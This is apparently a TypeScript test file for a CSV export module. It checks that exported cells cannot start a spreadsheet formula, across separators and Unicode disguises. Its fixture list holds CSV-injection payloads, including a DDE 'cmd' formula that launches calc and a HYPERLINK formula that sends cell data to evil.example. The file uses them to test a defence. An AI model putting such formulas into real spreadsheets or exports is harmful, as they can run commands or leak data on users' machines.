import assert from 'node:assert/strict';
import type { Organization } from '../../../../../src/access/common/privilegeMap.ts';
import { accessMatrix } from '../../../../../src/matrix/common/accessMatrix.ts';
import { matrixCsv } from '../../../../../src/matrix/common/matrixCsv.ts';
import { createArranger, wholeMatrix } from '../../../../../src/matrix/common/matrixView.ts';
import { csvField, csvFormat, csvLine, tabField } from '../../../../../src/platform/common/text/csv.ts';
import { accessReport } from '../../../../../src/report/common/accessReport.ts';
import { figure } from '../../../../support/figures.ts';
import { hostileTexts } from '../../../../support/texts/hostileTexts.ts';

/** Formulas that spreadsheets evaluate or have evaluated, and ways to disguise them. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1;"x")',
  '+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@A1',
  '=A1,B1',
  ' =1',
  '  \u00a0=1',
  '\u3000=1',
  '\ufeff=1',
  '\u200b=1',
  '\u2060=1',
  '\u202e=1',
  '\u00ad=1',
  '\u2800=1',
  '\u0000=1',
  '"=1',
  '"=1"',
  '""=1',
  '" =1',
  '"";=1',
  '\u001f+1',
  '\u007f@A1',
  '\u{e0001}=1',
  '\t=1',
  '\r=1',
  '\n=1',
  '\r\n-1',
  '\u2028=1',
  '\u0085=1',
  '\v=1',
  '＝1',
  '＋1',
  '－1',
  '＠A1',
  '﹦1',
] as const;

/** Positions of a formula in a field. */
const fields: readonly ((formula: string) => string)[] = [
  (formula) => formula,
  ...[';', '\t', '\n', '\r', '\r\n', '; ', ';"', ';""', '\t"', '";', '"\n', ';;', ';\t', '"\t', '";"', "';"].map(
    (before) => (formula: string) => `Acme${before}${formula}`,
  ),
  (formula) => `"Acme";"${formula}"`,
  (formula) => `;${formula};`,
  (formula) => `Oslo, "${formula}", 1;${formula}`,
];

/** Dialect of a spreadsheet: separators, and whether spaces before a quote are skipped. */
interface Reading {
  readonly separators: string;
  readonly skipsSpaces: boolean;
}

const readings: readonly Reading[] = [',', ';', '\t', ',;\t'].flatMap((separators) => [
  { separators, skipsSpaces: false },
  { separators, skipsSpaces: true },
]);

/** Reads cells as spreadsheets do: quotes open only at the beginning of a cell, and text after the closing quote belongs to the cell. */
function readCells(text: string, { separators, skipsSpaces }: Reading): string[] {
  const cells: string[] = [];
  let at = 0;
  const isEnd = () => at >= text.length || separators.includes(text[at]!) || text[at] === '\r' || text[at] === '\n';
  while (at <= text.length) {
    let cell = '';
    const start = at;
    while (skipsSpaces && text[at] === ' ') at += 1;
    if (text[at] === '"') {
      for (at += 1; at < text.length && (text[at] !== '"' || text[at + 1] === '"'); at += 1) {
        if (text[at] === '"') at += 1;
        cell += text[at] ?? '';
      }
      at += 1;
    } else at = start;
    for (; !isEnd(); at += 1) cell += text[at];
    cells.push(cell);
    at += text[at] === '\r' && text[at + 1] === '\n' ? 2 : 1;
  }
  return cells;
}

/** Whether a spreadsheet may take a cell for a formula, in any width and after any skipped characters. */
function isFormula(cell: string): boolean {
  const first = [...cell.normalize('NFKC')].find(
    (character) => !/[\s"\p{C}\p{Default_Ignorable_Code_Point}\u2800]/u.test(character),
  );
  return first !== undefined && '=+-@\u2212'.includes(first);
}

const formulasIn = (csv: string, reading: Reading) => readCells(csv.replace(/^\ufeff/, ''), reading).filter(isFormula);

/** Returns every field of a report or matrix. */
function everywhere(text: string): string[] {
  const organizations: Organization[] = [
    {
      id: text,
      name: text,
      grants: [{ role: text, privileges: [text, 'READ'] }],
      sites: [
        { id: text, name: text, grants: [{ role: text, privileges: [text] }] },
        { name: `1${text}`, grants: [] },
      ],
    },
  ];
  const head = { connection: text, baseUrl: 'https://service.example', user: text, loadedAtMs: 0, version: '1.2.3' };
  const matrices = (['privilege', 'role'] as const).map((kind) => {
    const matrix = accessMatrix({ organizations }, kind);
    return [...matrixCsv(matrix, createArranger(matrix)(wholeMatrix))].join('');
  });
  return [[...accessReport('csv', organizations, head)].join(''), ...matrices];
}

describe('CSV', () => {
  it('csvField puts an apostrophe before text that a spreadsheet would evaluate as a formula', () => {
    assert.deepEqual(['=1+1', '+1', '-1', '@x', '\t=1', 'a=1', 'a,b', 'say "x"', '-"x"', 'a;=1'].map(csvField), [
      "'=1+1",
      "'+1",
      "'-1",
      "'@x",
      `"'\t'=1"`,
      'a=1',
      '"a,b"',
      '"say ""x"""',
      `"'-""x"""`,
      `"a;'=1"`,
    ]);
  });

  it('csvLine quotes only the fields that need quotes, and ends each line with CRLF', () => {
    assert.equal(csvLine(['a b', ',', 'b;c', '"', '\t', '\r', '\n', '']), 'a b,",","b;c","""","\t","\r","\n",\r\n');
  });

  it('csvFormat uses the separator that spreadsheets expect in the given language, or a comma for the standard format', () => {
    const formats = (language: string) =>
      (['excel', 'language', 'standard'] as const).map((form) => csvFormat(form, language));
    assert.deepEqual(formats('de'), [
      { separator: ';', hasByteOrderMark: true },
      { separator: ';', hasByteOrderMark: false },
      { separator: ',', hasByteOrderMark: false },
    ]);
    const separators = ['en', 'en-US', 'de-AT', 'fr', 'pt-br', 'ja', 'zh_cn', 'no such'].map(
      (language) => csvFormat('excel', language.replace(' ', '')).separator,
    );
    assert.deepEqual(separators, [',', ',', ';', ';', ';', ',', ',', ',']);
    assert.equal(csvLine(['a', 'b;c', 'd'], ';'), 'a;"b;c";d\r\n');
  });

  it('tabField quotes text that contains a tab, but not text that contains a comma', () => {
    assert.deepEqual(['a, b; c', 'a\tb', 'a\nb', '"', '=1', 'a\t=1', ''].map(tabField), [
      'a, b; c',
      '"a\tb"',
      '"a\nb"',
      '""""',
      "'=1",
      '"a\t\'=1"',
      '',
    ]);
  });

  it('every CSV file begins with a byte order mark', () => {
    const files = everywhere('Åse');
    assert.equal(files.length, 3);
    for (const file of files) assert.ok(file.startsWith('\ufeff'), file);
  });

  it('no cell of a CSV file begins with a formula, whichever separator the spreadsheet uses', () => {
    let cells = 0;
    for (const formula of formulas) {
      for (const field of fields) {
        const text = field(formula);
        for (const csv of everywhere(text)) {
          for (const reading of readings) {
            assert.deepEqual(formulasIn(csv, reading), [], `${JSON.stringify(text)} with ${JSON.stringify(reading)}`);
            cells += readCells(csv, reading).length;
          }
        }
      }
    }
    figure(
      `formulas (${formulas.length}) × separators (comma, semicolon, tab, all three) × fields (${fields.length}): ${cells} cells read, 0 begin with a formula in any of the readings`,
    );
  });

  it('(control) the CSV readers of this test detect each formula if it is written without an apostrophe', () => {
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    for (const formula of formulas) {
      const rows = [`1,${quoted(`Acme;${formula}`)},2`, `1,${quoted(`Acme\t${formula}`)},2`, `1,${quoted(formula)},2`];
      const found = rows.flatMap((row) => readings.flatMap((reading) => formulasIn(row, reading)));
      assert.ok(found.length > 0, JSON.stringify(formula));
    }
  });

  it('csvField changes nothing but the apostrophes that it adds before formulas', () => {
    const honest = [
      'Acme',
      'Rīga, Oslo & Co.',
      'say "x"',
      'A - B',
      "O'Hara's",
      'two; three',
      'Oslo (11)',
      '1-2',
      'a=b',
      'x@example.com',
      '日本語',
      '👩‍🚒',
      'two\r\nlines',
      '',
      ' spaced ',
      "'quoted'",
    ];
    for (const text of honest)
      assert.deepEqual(readCells(csvField(text), { separators: ',', skipsSpaces: false }), [text]);
    for (const text of [...formulas.flatMap((formula) => fields.map((field) => field(formula))), ...hostileTexts()]) {
      const [cell = '', ...more] = readCells(csvField(text), { separators: ',', skipsSpaces: false });
      assert.deepEqual([cell.replaceAll("'", ''), more], [text.replaceAll("'", ''), []]);
      assert.ok(cell.length - text.length <= 8, 'a few apostrophes at the most');
    }
  });

  it('csvField takes linear time for long fields', () => {
    for (const unit of [';', '\t', ' ', '"', '\n ', '\u200b', ';"']) {
      const text = `${unit.repeat(1_000_000)}x`;
      assert.deepEqual(readCells(csvField(text), { separators: ',', skipsSpaces: false }), [text]);
    }
  });
});
